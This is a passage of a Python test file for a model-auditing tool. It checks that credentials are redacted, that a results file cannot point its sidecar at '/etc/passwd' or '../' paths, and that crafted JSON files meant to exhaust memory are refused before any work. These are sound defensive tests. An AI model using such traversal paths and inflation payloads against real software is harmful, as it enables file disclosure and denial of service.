def test_redact_hides_credentials_in_uris_and_keeps_the_rest(arg, shown, hidden):
    assert shown in redact(arg)
    assert hidden is None or hidden not in redact(arg)
    assert shown in command_line(["report", "--scheduler", arg])


def test_values_of_options_named_like_secrets_are_redacted():
    line = command_line(["report", "--token", "s3cr3t", "--db-password=hunter2", "--api-key", "k1", "--author", "ann"])
    assert "s3cr3t" not in line and "hunter2" not in line and "k1" not in line
    assert "--token '***'" in line and "'--db-password=***'" in line and "--author ann" in line


def test_a_scheduler_token_appears_in_no_output_file(loading_files, tmp_path, capsys, monkeypatch):
    """The command line is recorded in results.json, gate.json, gate.xml, the manifest, the HTML and the Word
    report: none of them carries the token.  The audit runs locally (no cluster), the recording is the CLI's."""
    import sys

    audit_module = sys.modules["autopdp.auditing.pipeline"]
    real = audit_module.audit
    monkeypatch.setattr(audit_module, "audit", lambda *a, scheduler=None, **k: real(*a, **k))
    out = tmp_path / "out"
    code, _, err = run(capsys, "gate", "--policy", loading_files / "policy.toml", "--model", loading_files / "model.skops",
                       "--data", loading_files / "data.csv", "--target", "target", "--out", out, "--config",
                       loading_files / "config.toml", "--formats", "html,json,docx",
                       "--scheduler", "tls://user:s3cr3tTOKEN@127.0.0.1:1")
    assert code in (0, 1), err
    written = {p.name for p in out.iterdir()}
    assert {"results.json", "gate.json", "gate.xml", "manifest.json", "report.html", "report.docx"} <= written
    texts = {}
    for p in out.iterdir():
        if p.suffix == ".docx":
            with zipfile.ZipFile(p) as z:
                texts[p.name] = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
        else:
            texts[p.name] = p.read_bytes().decode("utf-8", "replace")
    for name, text in texts.items():
        assert "s3cr3tTOKEN" not in text, name
    assert "tls://user:***@127.0.0.1:1" in json.loads(texts["results.json"])["run"]["command"]
    assert "tls://user:***@127.0.0.1:1" in texts["gate.xml"] and "tls://user:***@127.0.0.1:1" in texts["report.html"]
    assert "s3cr3tTOKEN" not in err


def test_an_unreachable_scheduler_error_does_not_print_the_token(loading_files, tmp_path, capsys):
    pytest.importorskip("distributed")
    from autopdp.pd.distributed import _client

    with pytest.raises(InputError) as exc:
        _client("tcp://user:s3cr3tTOKEN@127.0.0.1:1")
    assert "s3cr3tTOKEN" not in str(exc.value) and "tcp://user:***@127.0.0.1:1" in str(exc.value)
    code, out, err = run(capsys, "report", "--model", loading_files / "model.skops", "--data", loading_files / "data.csv", "--target",
                         "target", "--out", tmp_path / "out", "--config", loading_files / "config.toml", "--formats", "json",
                         "--scheduler", "tls://user:s3cr3tTOKEN@127.0.0.1:1")
    assert code == 2 and "tls://user:***@127.0.0.1:1" in err
    assert "s3cr3tTOKEN" not in out + err and not (tmp_path / "out").exists()


# ------------------------------------------------------------------------------------------- the ICE sidecar
@pytest.fixture(scope="module")
def ice_saved(tmp_path_factory):
    d = tmp_path_factory.mktemp("ice")
    X, y = _frame(120)
    a = audit(LogisticRegression().fit(X, y), X, y, config=AuditConfig(grid_resolution=5, pairs=False))
    a.to_json(d / "results.json", ice=True)
    return d


def _with_ice_file(ice_saved, tmp_path, name):
    data = json.loads((ice_saved / "results.json").read_text())
    data["ice"]["file"] = name
    path = tmp_path / "results.json"
    path.write_text(json.dumps(data))
    return path


def test_the_sidecar_beside_results_json_loads(ice_saved):
    loaded = Audit.from_json(ice_saved / "results.json", ice=True)
    assert all(r.individual is not None for r in loaded.results)


@pytest.mark.parametrize("name", ["/etc/passwd", "/no/such/file.parquet", "../ice.parquet", "sub/ice.parquet", ".."])
def test_a_results_json_cannot_point_its_ice_file_elsewhere(ice_saved, tmp_path, name):
    path = _with_ice_file(ice_saved, tmp_path, name)
    with pytest.raises(InputError) as exc:
        Audit.from_json(path, ice=True)
    message = str(exc.value)
    assert "not a plain file name" in message and "ice=PATH" in message
    # the same words whether the file exists or not: nothing revealed about it
    assert message.replace(repr(name), "NAME") == (
        "the results.json names its ICE file NAME, which is not a plain file name: the sidecar is read only from "
        "beside the results.json; pass its path explicitly (Audit.from_json(path, ice=PATH)).")


def test_an_explicit_ice_path_is_still_honoured(ice_saved, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "curves.parquet").write_bytes((ice_saved / "ice.parquet").read_bytes())
    path = _with_ice_file(ice_saved, tmp_path, "/etc/passwd")
    loaded = Audit.from_json(path, ice=tmp_path / "elsewhere" / "curves.parquet")
    assert all(r.individual is not None for r in loaded.results)


# ----------------------------------------------------------------------------------------------------
# Limits before work: every allocation the proofs of concept made is refused or bounded before it is made
# ----------------------------------------------------------------------------------------------------

audit_module = importlib.import_module("autopdp.auditing.pipeline")

#: The largest array (elements) a guarded allocation may ask for in these tests.
GUARD_ELEMENTS = 20_000_000


def _guard(monkeypatch, name):
    """Refuse (AssertionError) any ``np.<name>`` call whose result would exceed GUARD_ELEMENTS elements."""
    real = getattr(np, name)

    def guarded(*args, **kwargs):
        shape = args[0] if args else kwargs.get("shape")
        if name == "hstack":
            size = sum(int(np.asarray(a).shape[-1]) for a in args[0]) * max(len(a) for a in args[0])
        else:
            size = int(np.prod(shape))
        assert size <= GUARD_ELEMENTS, f"np.{name} asked for {size:,} elements"
        return real(*args, **kwargs)

    monkeypatch.setattr(np, name, guarded)


def _no_pd(monkeypatch):
    """Fail the test if any PD is computed (the limit must stop the run before the work)."""
    def refuse(*a, **k):
        raise AssertionError("a PD was computed before the limit was checked")

    monkeypatch.setattr(audit_module, "partial_dependence", refuse)


def _id_data(n=20_000, seed=0):
    rng = np.random.default_rng(seed)
    ids = np.where(rng.uniform(size=n) < 0.3, "common", np.char.add("id", np.arange(n).astype(str)))
    return pd.DataFrame({"id": ids, "v": rng.normal(size=n)})


# ---------------------------------------------------------------- OOD check and cardinality
def test_ood_check_of_a_20000_level_id_column_keeps_max_levels(monkeypatch):
    """PoC: a 20,000-level ID column made the OOD check build a 20,001 x 20,001 float64 matrix (3 GiB)."""
    X = _id_data()
    _guard(monkeypatch, "hstack")  # the old embedding: 4000 x 20,000 one-hot columns
    m = SupportModel(as_frame(X), {"id": "categorical", "v": "numeric"}, max_levels=50)
    # 50 kept levels + one pooled level + the numeric column; the precision matrix is that squared
    assert m.embedding.shape[1] == 52
    assert m.precision.shape == (52, 52)
    kept = m.measure(("id",), (np.array(["common"], dtype=object),))
    assert kept.share[0] < 0.5  # the most frequent level is in distribution
    # a level beyond max_levels is not a column of its own: outside like an unseen level
    rare = m.measure(("id",), (np.array(["id5"], dtype=object),))
    assert rare.cell_outside[0]


def test_audit_with_a_20000_level_id_column_is_one_rule(monkeypatch):
    """The same max_levels applies to the grid (noted) and to the OOD check (computed, bounded)."""
    X = _id_data()
    _guard(monkeypatch, "hstack")
    a = audit(lambda d: d["v"].to_numpy() + (d["id"] == "common"), X,
              config=AuditConfig(pairs=False, max_levels=30, utilities=("ood_share",)))
    r = a.pd("id")
    assert r.grid_shape == (30,) and "common" in list(r.grid[0])
    assert any("keeps the 30 most frequent" in note for note in a.notes)
    ood = a.utility_scores[("id",)]["ood_share"]
    assert ood.available and 0.0 <= ood.value <= 1.0


def test_ood_model_beyond_max_batch_mb_is_refused_before_work(monkeypatch):
    """Many categorical features: the OOD model's size is checked against max_batch_mb at validation."""
    rng = np.random.default_rng(0)
    X = pd.DataFrame({f"c{j}": rng.integers(0, 60, 3000).astype(str) for j in range(40)})
    _no_pd(monkeypatch)
    with pytest.raises(InputError) as exc:
        audit(lambda d: np.zeros(len(d)), X,
              config=AuditConfig(pairs=False, max_batch_mb=40, criteria_2d=("importance",)))
    msg = str(exc.value)
    # 40 features x (50 kept + 1 pooled) = 2,040 embedded columns
    assert "2,040 embedded columns" in msg and "max_batch_mb (40 MB)" in msg and "ood_share" in msg
    # the additive surrogate's design (rows x levels) is bounded the same way
    with pytest.raises(InputError) as exc:
        audit(lambda d: np.zeros(len(d)), X, config=AuditConfig(pairs=False, max_batch_mb=40))
    msg = str(exc.value)
    assert "surrogate model of 40 features needs 49 MB on its 1,000 fewest rows (2,040 columns" in msg
    assert "surrogate_importance" in msg
    with pytest.raises(InputError, match="max_batch_mb"):
        SupportModel(as_frame(X), {c: "categorical" for c in X}, max_levels=50, max_mb=40)


def test_surrogate_fits_fewer_rows_where_its_design_would_not_fit(monkeypatch):
    """The surrogate batches by sampling: a wide design is fitted on fewer rows within max_batch_mb."""
    from autopdp.trust.surrogate import fit_surrogate, surrogate_rows, surrogate_width

    rng = np.random.default_rng(0)
    X = pd.DataFrame({f"c{j}": rng.integers(0, 60, 5000).astype(str) for j in range(10)})
    kinds = {c: "categorical" for c in X}
    width = surrogate_width(as_frame(X), kinds, max_levels=50)
    assert width == 10 * 51
    assert surrogate_rows(width, 20_000, 30) == 30_000_000 // (24 * width) == 2450
    _guard(monkeypatch, "empty")  # the design is allocated once, at its sampled rows
    from autopdp.trust import surrogate

    fitted = []
    real = surrogate._ridge_gcv

    def fit(design, y, *a, **k):
        fitted.append(design.shape)
        return real(design, y, *a, **k)

    monkeypatch.setattr(surrogate, "_ridge_gcv", fit)
    s = fit_surrogate(rng.normal(size=5000), as_frame(X), kinds, max_levels=50, max_mb=30)
    assert fitted == [(2450, 510)] and set(s.importance) == set(X)


def test_two_id_columns_are_not_tabulated_level_by_level(monkeypatch):
    """The correlation criterion's test of two categorical features makes a levels x levels table: checked first."""
    rng = np.random.default_rng(0)
    n = 20_000
    # 10,000 levels of two rows each: many levels, yet not identifiers (those are skipped: issue 57)
    X = pd.DataFrame({"id": np.char.add("a", (np.arange(n) // 2).astype(str)),
                      "id2": np.char.add("b", (rng.permutation(n) // 2).astype(str)), "v": rng.normal(size=n)})
    _no_pd(monkeypatch)
    with pytest.raises(InputError) as exc:
        audit(lambda d: d["v"].to_numpy(), X, config=AuditConfig(utilities=("monotonicity",)))
    msg = str(exc.value)
    assert "'id' x 'id2' (10,000 x 10,000 levels) needs 2,400 MB" in msg and "criteria_2d" in msg
    # without the criterion (or the pair) the run is not refused for it
    with pytest.raises(AssertionError, match="a PD was computed"):
        audit(lambda d: d["v"].to_numpy(), X,
              config=AuditConfig(utilities=("monotonicity",), criteria_2d=("importance",)))


def test_max_levels_has_a_limit():
    with pytest.raises(InputError, match="'max_levels' is 20,000, above its limit of 1,000"):
        AuditConfig(max_levels=20_000)


# ---------------------------------------------------------------- grid resolution
def test_grid_resolution_2d_of_a_million_is_refused():
    """PoC: grid_resolution_2d = 1000000 was accepted and allocated 8.6 GiB."""
    with pytest.raises(InputError) as exc:
        AuditConfig(grid_resolution_2d=1_000_000)
    assert "1,000,000,000,000 cells" in str(exc.value) and "at most 200" in str(exc.value)
    with pytest.raises(InputError, match="'grid_resolution' is 1,000,000, above its limit of 1,000"):
        AuditConfig(grid_resolution=1_000_000)
    assert AuditConfig(grid_resolution=1000, grid_resolution_2d=200).grid_resolution_2d == 200


def test_grid_resolution_2d_in_a_config_file_is_exit_2(tmp_path, capsys):
    X, y = _linear_cli_inputs(tmp_path, n_features=3)
    (tmp_path / "big.toml").write_text("grid_resolution_2d = 1000000\n")
    code = main(["report", "--model", str(tmp_path / "model.skops"), "--data", str(tmp_path / "data.csv"),
                 "--target", "target", "--config", str(tmp_path / "big.toml"), "--out", str(tmp_path / "out"),
                 "--formats", "json"])
    err = capsys.readouterr().err
    assert code == 2 and "grid_resolution_2d" in err and "1,000,000,000,000 cells" in err
    assert not (tmp_path / "out" / "results.json").exists()


def test_ice_curves_beyond_max_batch_mb_are_refused_before_work(monkeypatch):
    """One 1D PD's ICE curves (rows x grid x targets) must fit in max_batch_mb; the message gives the MB."""
    rng = np.random.default_rng(0)
    X = pd.DataFrame({"a": rng.normal(size=20_000), "b": rng.normal(size=20_000)})
    _no_pd(monkeypatch)
    with pytest.raises(InputError) as exc:
        audit(lambda d: d["a"].to_numpy(), X,
              config=AuditConfig(pairs=False, subsample=None, grid_resolution=1000, max_batch_mb=100))
    msg = str(exc.value)
    assert "ICE curves of the 2 1D PDs (20,000 rows x 2,000 grid points in all" in msg
    assert "320 MB" in msg and "max_batch_mb (100 MB)" in msg


def test_2d_ice_surfaces_beyond_max_batch_mb_are_refused_before_work(monkeypatch):
    """grid_resolution_2d at its limit on many pairs: the surfaces held for the noise tests are bounded too."""
    rng = np.random.default_rng(0)
    X = pd.DataFrame(rng.normal(size=(300, 12)), columns=[f"x{j}" for j in range(12)])
    _no_pd(monkeypatch)
    with pytest.raises(InputError) as exc:
        audit(lambda d: d["x0"].to_numpy(), X, config=AuditConfig(grid_resolution_2d=200, std_rows=128))
    msg = str(exc.value)
    # 66 pairs x 128 rows x 40,000 cells x 8 bytes
    assert "66 2D PDs (128 rows x up to 40,000 cells" in msg and "2,703 MB" in msg and "top:N" in msg


# ---------------------------------------------------------------- pair count
def _linear_cli_inputs(d, n_features, n_rows=40):
    rng = np.random.default_rng(3)
    X = pd.DataFrame(rng.normal(size=(n_rows, n_features)), columns=[f"x{j}" for j in range(n_features)])
    y = X["x0"].to_numpy() + rng.normal(size=n_rows)
    X.assign(target=y).to_csv(d / "data.csv", index=False)
    sio.dump(LinearRegression().fit(X, y), d / "model.skops")
    return X, y


def test_every_pair_of_many_columns_is_bounded_to_the_top_pairs_with_a_note(tmp_path, capsys):
    """PoC: 500 columns with the default pairs (124,750 2D PDs) ran on without a word; then it was exit 2.  Now
    (issue 52) the pairs are bounded by their cost and their count: the audit computes the top pairs of the
    importance screen and says so (80 columns, 3,160 pairs, --max-pairs 30 here)."""
    X, y = _linear_cli_inputs(tmp_path, n_features=80)
    (tmp_path / "c.toml").write_text(SMALL + 'utilities = ["monotonicity"]\ncriteria_2d = ["importance"]\n')
    for extra in ([], ["--pairs", "all"]):
        out = tmp_path / f"out{len(extra)}"
        code = main(["report", "--model", str(tmp_path / "model.skops"), "--data", str(tmp_path / "data.csv"),
                     "--target", "target", "--out", str(out), "--formats", "json", "--max-pairs", "30",
                     *extra, "--config", str(tmp_path / "c.toml")])
        capsys.readouterr()
        assert code == 0
        a = Audit.from_json(out / "results.json")
        assert len(a.results_2d) == 30
        assert any("2D PDs computed for 30 of the 3,160 pairs asked for (more than max_pairs (30; raise it with "
                   "--max-pairs))" in n for n in a.notes), a.notes


def test_pair_limit_applies_to_top_n_and_lists_and_can_be_raised(monkeypatch):
    rng = np.random.default_rng(0)
    X = pd.DataFrame(rng.normal(size=(30, 6)), columns=list("abcdef"))
    _no_pd(monkeypatch)
    with pytest.raises(InputError, match="pairs \\(--pairs\\) lists 2 2D PDs, above max_pairs \\(1\\)"):
        audit(lambda d: d["a"].to_numpy(), X, config=AuditConfig(pairs="a:b,c:d", max_pairs=1))
    with pytest.raises(InputError, match="'max_pairs' must be an integer >= 1"):
        AuditConfig(max_pairs=0)
    with pytest.raises(InputError, match="'max_pair_cells' must be an integer >= 1"):
        AuditConfig(max_pair_cells=0)


def test_top_n_below_the_limit_runs():
    rng = np.random.default_rng(0)
    X = pd.DataFrame(rng.normal(size=(60, 6)), columns=list("abcdef"))
    a = audit(lambda d: d["a"].to_numpy() * d["b"].to_numpy(), X,
              config=AuditConfig(pairs="top:2", max_pairs=2, grid_resolution=5, grid_resolution_2d=4,
                                 utilities=("monotonicity",), criteria_2d=("importance",)))
    assert len(a.results_2d) == 2


# ---------------------------------------------------------------- results.json inputs
@pytest.fixture(scope="module")
def limits_saved(tmp_path_factory):
    """A small weighted audit written as results.json with its ICE sidecar."""
    d = tmp_path_factory.mktemp("saved")
    rng = np.random.default_rng(0)
    X = pd.DataFrame({"a": rng.normal(size=80), "b": rng.uniform(size=80)})
    a = audit(lambda df: df["a"].to_numpy() + df["b"].to_numpy(), X, sample_weight=rng.uniform(0.5, 2, 80),
              config=AuditConfig(grid_resolution=5, grid_resolution_2d=4, utilities=("monotonicity",),
                                 criteria_2d=("importance",), subsample=40))
    a.to_json(d / "results.json")
    a.to_ice(d / "ice.parquet")
    return d


def test_results_json_above_max_mb_is_refused_before_parsing(limits_saved, monkeypatch):
    path = limits_saved / "results.json"
    size_mb = path.stat().st_size / 1e6

    def no_parse(*a, **k):
        raise AssertionError("the file was parsed")

    monkeypatch.setattr(json, "loads", no_parse)
    for load in (Audit.from_json, read_results):
        with pytest.raises(InputError, match=rf"is 0.\d MB, above the {size_mb / 2:.4g} MB a results.json may have \(max_mb\)"):
            load(path, max_mb=size_mb / 2)
    with pytest.raises(InputError, match="max_mb must be a positive number"):
        Audit.from_json(path, max_mb=0)


def test_results_json_size_limit_default_is_documented():
    from autopdp.io.results import RESULTS_MAX_MB

    assert RESULTS_MAX_MB == 256
    assert Audit.from_json.__kwdefaults__["max_mb"] == 256


def test_a_small_crafted_results_json_cannot_expand_to_gigabytes(limits_saved, tmp_path, monkeypatch):
    """PoC: a 0.37 MB results.json whose PDs share one long grid expanded to tens of GiB of arrays."""
    d = json.loads((limits_saved / "results.json").read_text())
    d["grids"]["a"] = [[float(i) for i in range(20_000)]] * len(d["grids"]["a"])  # a grid of 20,000 points ...
    table = d["results"][0]
    table["rows"] = table["rows"] * 2000  # ... shared by thousands of PDs (the rows are references)
    if "at" in table:
        del table["at"]
    crafted = tmp_path / "results.json"
    crafted.write_text(json.dumps(d))
    assert crafted.stat().st_size < 2e6
    _guard(monkeypatch, "empty")
    _guard(monkeypatch, "asarray")
    with pytest.raises(InputError, match="would expand to more than 64 MB of arrays"):
        Audit.from_json(crafted)


def test_a_shared_array_in_a_crafted_results_json_is_counted_per_pd(limits_saved, tmp_path, monkeypatch):
    """A table field written once ('same') for thousands of PDs: each PD would build its own array of it."""
    d = json.loads((limits_saved / "results.json").read_text())
    table = d["results"][0]
    columns = table["columns"]
    at = columns.index("std")
    table["same"]["std"] = [0.5] * 20_000
    table["columns"] = columns[:at] + columns[at + 1:]
    table["rows"] = [row[:at] + row[at + 1:] for row in table["rows"]] * 500
    table.pop("at", None)
    table.pop("order", None)
    crafted = tmp_path / "results.json"
    crafted.write_text(json.dumps(d))
    assert crafted.stat().st_size < 1e6
    _guard(monkeypatch, "asarray")
    with pytest.raises(InputError, match="would expand to more than 64 MB of arrays"):
        Audit.from_json(crafted)


def test_deeply_nested_results_json_is_one_error(tmp_path):
    crafted = tmp_path / "results.json"
    crafted.write_text('{"schema": "autopdp.Audit/2", "results": ' + "[" * 100_000 + "]" * 100_000 + "}")
    with pytest.raises(InputError, match="nests its values too deeply"):
        Audit.from_json(crafted)


@pytest.mark.parametrize("rows", [4_000_000_000, 4e9, -1, "many"])
def test_metadata_rows_with_ice_cannot_allocate_gigabytes(limits_saved, tmp_path, monkeypatch, rows):
    """PoC: metadata.data.rows = 4e9 with ice=True allocated up to 30 GiB of sample weights."""
    d = json.loads((limits_saved / "results.json").read_text())
    d["metadata"]["data"]["rows"] = rows
    crafted = tmp_path / "results.json"
    crafted.write_text(json.dumps(d))
    _guard(monkeypatch, "full")
    with pytest.raises(InputError, match="metadata.data.rows|sample weights of|data rows"):
        Audit.from_json(crafted, ice=limits_saved / "ice.parquet")


def test_genuine_results_and_ice_still_load(limits_saved):
    a = Audit.from_json(limits_saved / "results.json", ice=limits_saved / "ice.parquet")
    assert a.sample_weight is not None and a.sample_weight.shape == (80,)
    assert a.results_1d[0].individual is not None
    assert read_results(limits_saved / "results.json")["schema"] == "autopdp.Audit/2"


def test_ice_file_is_size_checked_before_reading_and_its_index_checked(limits_saved, tmp_path, monkeypatch):
    import pyarrow.parquet as pq

    from autopdp.io.ice import read_ice

    path = limits_saved / "ice.parquet"
    with pytest.raises(InputError, match=r"once decompressed, above max_mb \(1e-06 MB\)"):
        read_ice(path, max_mb=1e-6)

    def no_read(*a, **k):
        raise AssertionError("the table was read")

    with monkeypatch.context() as m:
        m.setattr(pq, "read_table", no_read)
        with pytest.raises(InputError, match="max_mb"):
            Audit.from_json(limits_saved / "results.json", ice=path, max_mb=1e-6)
    # an index claiming a billion curves is refused, naming the file
    table = pq.read_table(path)
    meta = json.loads(table.schema.metadata[b"autopdp"])
    meta["index"][0]["rows"] = 10**9
    bad = tmp_path / "ice.parquet"
    pq.write_table(table.replace_schema_metadata({"autopdp": json.dumps(meta)}), bad)
    with pytest.raises(InputError, match="does not hold together"):
        read_ice(bad)


# ----------------------------------------------------------------------------------------------------
# The gate and the record: a policy cannot be emptied or loosened, and the record carries no raw rows unless asked
# ----------------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def gate_world(tmp_path_factory):
    rng = np.random.default_rng(3)
    n = 600
    X = pd.DataFrame({"a": rng.normal(size=n), "b": rng.uniform(0, 4, n)})
    y = (rng.uniform(size=n) < 1 / (1 + np.exp(-(1.5 * X.a + 0.5 * X.b - 1.0)))).astype(int)
    d = tmp_path_factory.mktemp("secgate")
    sio.dump(LogisticRegression().fit(X, y), d / "model.skops")
    X.assign(y=y).to_csv(d / "data.csv", index=False)
    return d


def _run_gate(d, tmp_path, policy_text, *extra):
    (tmp_path / "policy.toml").write_text(policy_text)
    return main(["gate", "--policy", str(tmp_path / "policy.toml"), "--model", str(d / "model.skops"),
                 "--data", str(d / "data.csv"), "--target", "y", "--out", str(tmp_path / "out"), "--formats", "json",
                 *extra])


FAILING_POLICY = '[features.a]\nmonotonic = "decreasing"\nmax_monotonicity = 0.01\n[audit]\npairs = false\n'


def test_poc_config_materiality_cannot_turn_a_failing_check_into_a_pass(gate_world, tmp_path, capsys):
    assert _run_gate(gate_world, tmp_path, FAILING_POLICY) == 1
    assert "FAILED 1 of 1 checks: monotonicity[a]" in capsys.readouterr().out
    (tmp_path / "loose.toml").write_text("materiality = 1000\nsignificance = 1e-9\nnoise_draws = 20\n")
    assert _run_gate(gate_world, tmp_path, FAILING_POLICY, "--config", str(tmp_path / "loose.toml")) == 1
    out, err = capsys.readouterr()
    assert "FAILED 1 of 1 checks: monotonicity[a]" in out
    for key in ("materiality", "significance", "noise_draws"):
        assert f"--config key '{key}' ignored" in err
    record = json.loads((tmp_path / "out" / "results.json").read_text())
    assert record["config"]["materiality"] == AuditConfig().materiality
    check = json.loads((tmp_path / "out" / "gate.json").read_text())["checks"][0]
    assert not check["passed"] and check["proof"]["material"]


def test_the_policys_own_audit_keys_win_over_config():
    policy = GatePolicy.from_dict({"features": {"a": {"monotonic": "increasing"}}, "audit": {"materiality": 0.2}})
    base, reset = policy.without_loosening(AuditConfig(materiality=1000.0, loss="l1", grid_resolution=7))
    assert reset == ["loss"] and base.loss == "l2" and base.grid_resolution == 7
    assert policy.audit_config(base).materiality == 0.2
    # a --config bound for a feature whose max_lipschitz rule has no bound of the policy's own is dropped
    policy = GatePolicy.from_dict({"features": {"a": {"max_lipschitz": 0.01}, "b": {"monotonic": "increasing"}}})
    base, reset = policy.without_loosening(AuditConfig(lipschitz={"a": 1e9, "b": 2.0}))
    assert reset == ["lipschitz.a"] and dict(base.lipschitz) == {"b": 2.0}
    # a --config equal to the defaults is not reported
    assert policy.without_loosening(AuditConfig())[1] == []


@pytest.mark.parametrize("policy_text", [
    "",
    "[gate]\ndecide = \"limits\"\n",
    "[audit]\ngrid_resolution = 5\n",
    '[features.a]\nmonotonic = "none"\n',
])
def test_poc_a_policy_with_no_check_is_exit_2(gate_world, tmp_path, capsys, policy_text):
    assert _run_gate(gate_world, tmp_path, policy_text) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "defines no check" in err and 'monotonic = "increasing"' in err
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("policy, key, needs", [
    ({"features": {"a": {"max_monotonicity": 0.02}}}, "features.a.max_monotonicity", "features.a.monotonic"),
    ({"features": {"a": {"monotonic": "none", "max_monotonicity": 0.02}}}, "features.a.max_monotonicity",
     "features.a.monotonic"),
    ({"features": {"a": {"lipschitz": 0.5}}}, "features.a.lipschitz", "features.a.max_lipschitz"),
    ({"importance": {"forbidden_top_k": 3}}, "importance.forbidden_top_k", "importance.forbidden"),
    ({"importance": {"required_top_k": 3, "forbidden": ["a"]}}, "importance.required_top_k", "importance.required"),
    ({"importance": {"min_importance": 0.1}}, "importance.min_importance", "importance.required"),
])
def test_a_modifier_without_its_rule_is_refused_naming_both(policy, key, needs):
    with pytest.raises(InputError) as err:
        GatePolicy.from_dict(policy)
    assert f"'{key}'" in str(err.value) and f"'{needs}'" in str(err.value)


def test_a_policy_built_directly_with_no_rule_fails_closed():
    rng = np.random.default_rng(0)
    X = pd.DataFrame({"a": rng.normal(size=100)})
    a = audit(lambda d: d["a"].to_numpy(), X, config=AuditConfig(pairs=False, grid_resolution=5))
    with pytest.raises(InputError, match="defines no check"):
        gate(a, GatePolicy())
    assert gate(a, {"features": {"a": {"monotonic": "increasing"}}}).passed


# ---------------------------------------------------------------- no raw rows in the record
from pathlib import Path  # noqa: E402

from autopdp import Audit  # noqa: E402
from autopdp.report.figures import plot_pd_2d  # noqa: E402

V1_FILE = Path(__file__).with_name("data") / "results_v1.json"


def _customers():
    rng = np.random.default_rng(7)
    n = 200
    X = pd.DataFrame({"cust": [f"CUST-{i:05d}-{rng.integers(10**6)}" for i in range(n)],
                      "income": rng.normal(50000, 9000, n) + rng.uniform(0, 1, n) * 1e-3,
                      "age": rng.uniform(18, 80, n), "region": rng.choice(["north", "south", "east"], n)})

    def model(d):
        return 0.001 * d["income"].to_numpy() + 0.1 * d["age"].to_numpy() + (d["region"] == "south").to_numpy()

    return X, model


@pytest.fixture(scope="module")
def customer_audits():
    X, model = _customers()
    pairs = [("income", "age"), ("cust", "income"), ("region", "age")]
    cfg = AuditConfig(grid_resolution=8, grid_resolution_2d=6, pairs=pairs, utilities=("monotonicity",))
    return X, audit(model, X, config=cfg), audit(model, X, config=cfg.replace(keep_points=True))


def _raw_values(X):
    floats = {repr(float(v)) for c in ("income", "age") for v in X[c]}
    return set(X["cust"]), floats


def test_poc_results_json_and_html_carry_no_raw_rows_by_default(customer_audits, tmp_path):
    X, plain, _ = customer_audits
    ids, floats = _raw_values(X)
    text = plain.to_json()
    plain.to_html(tmp_path / "report.html")
    html = (tmp_path / "report.html").read_text()
    assert "points" not in json.loads(text)["data_summary"]
    for published in (text, html):
        assert not [v for v in floats if v in published]  # no raw float at full precision
        # cust is an identifier (issue 57): no grid of its values, so no ID string at all
        assert not [v for v in ids if v in published]


def test_identifier_levels_are_named_in_the_notes_and_outside_medians_are_rounded(customer_audits):
    """The two places a single row's value can still reach the record: the kept levels of an ID-like
    categorical (said in the notes, with what to do) and the median of the rows beyond a grid's end (an odd
    count's median is one row's value: recorded to 4 significant digits, where the PD is evaluated)."""
    X, plain, _ = customer_audits
    note = next(n for n in plain.notes if n.startswith("Feature 'cust' looks like an identifier"))
    assert "(200 distinct values in 200 rows) and was skipped" in note  # issue 57: no grid of its values at all
    # a many-level column that is not an identifier (170 levels in 200 rows: 30 held by two rows, 140 by one)
    # keeps its 50 most frequent levels, 20 of them a single row's: said in the notes, with what to do
    codes = [f"C{i:03d}" for i in range(30) for _ in range(2)] + [f"S{i:03d}" for i in range(140)]
    many = audit(lambda d: d["v"].to_numpy(), X.assign(code=codes, v=np.arange(200.0) % 7).drop(columns="cust"),
                 config=AuditConfig(pairs=False, utilities=("monotonicity",), grid_resolution=5))
    note = next(n for n in many.notes if n.startswith("'code' has 170 levels"))
    assert "20 of the kept levels are held by a single row each" in note and "the config's `features`" in note
    assert not any("'region'" in n and "single row" in n for n in many.notes)
    rng = np.random.default_rng(2)
    x = rng.normal(size=302)
    x[:31] = 10 + rng.uniform(size=31)
    a = audit(lambda d: d["x"].to_numpy() ** 2, pd.DataFrame({"x": x}),
              config=AuditConfig(pairs=False, utilities=("monotonicity",), percentiles=(0.0, 0.9)))
    beyond = x[x > np.asarray(a.pd("x").grid[0], dtype=float).max()]
    exact = float(np.median(beyond))
    assert beyond.size == 31 and exact in set(x.tolist())  # an odd count: the exact median is one row's value
    above = [o for o in a.metadata["outside_grid"] if o["side"] == "above"]
    assert above and above[0]["median"] == float(f"{exact:.4g}") != exact
    assert repr(exact) not in a.to_json()


def test_keep_points_writes_the_sample_rows_and_says_so(customer_audits, tmp_path):
    X, _, kept = customer_audits
    ids, floats = _raw_values(X)
    text = kept.to_json()
    assert kept.config.keep_points
    assert all(v in text for v in floats) and not [v for v in ids if v in text]  # cust is skipped as an identifier
    assert set(json.loads(text)["data_summary"]["points"]) == {"income", "age", "region"}


def test_occupancy_counts_the_rows_in_each_cell_of_the_2d_grid(customer_audits):
    X, plain, _ = customer_audits
    by = {tuple(o["features"]): np.asarray(o["counts"]) for o in plain.data_summary["occupancy"]}
    assert set(by) == {r.features for r in plain.results_2d}
    r = plain.pd(("income", "age"))
    counts = by[("income", "age")]
    assert counts.shape == (len(r.grid[0]), len(r.grid[1])) and counts.sum() == len(X)
    gi, ga = np.asarray(r.grid[0], float), np.asarray(r.grid[1], float)
    i = np.abs(X["income"].to_numpy()[:, None] - gi).argmin(axis=1)  # the nearest grid point, by brute force
    j = np.abs(X["age"].to_numpy()[:, None] - ga).argmin(axis=1)
    expected = np.zeros_like(counts)
    np.add.at(expected, (i, j), 1)
    assert (counts == expected).all()
    # a categorical axis: rows whose level the grid kept, per level
    rr = plain.pd(("region", "age"))
    reg = by[("region", "age")].sum(axis=1)
    assert dict(zip(map(str, rr.grid[0]), reg.tolist())) == X["region"].value_counts().to_dict()
    # cust is an identifier (issue 57): no 2D PD, so no occupancy of its levels
    assert ("cust", "income") not in by
    # the record round-trips and the heatmap draws the counts: one dot per occupied cell
    again = Audit.from_json(plain.to_json())
    assert again.data_summary["occupancy"] == json.loads(plain.to_json())["data_summary"]["occupancy"]
    svg = plot_pd_2d(r, occupancy=counts)
    assert "dot area" in svg and svg != plot_pd_2d(r)


def test_keep_points_must_be_a_bool_and_the_flag_sets_it():
    with pytest.raises(InputError, match="keep_points"):
        AuditConfig(keep_points="yes")
    from autopdp.cli.commands import _with_flags, build_parser

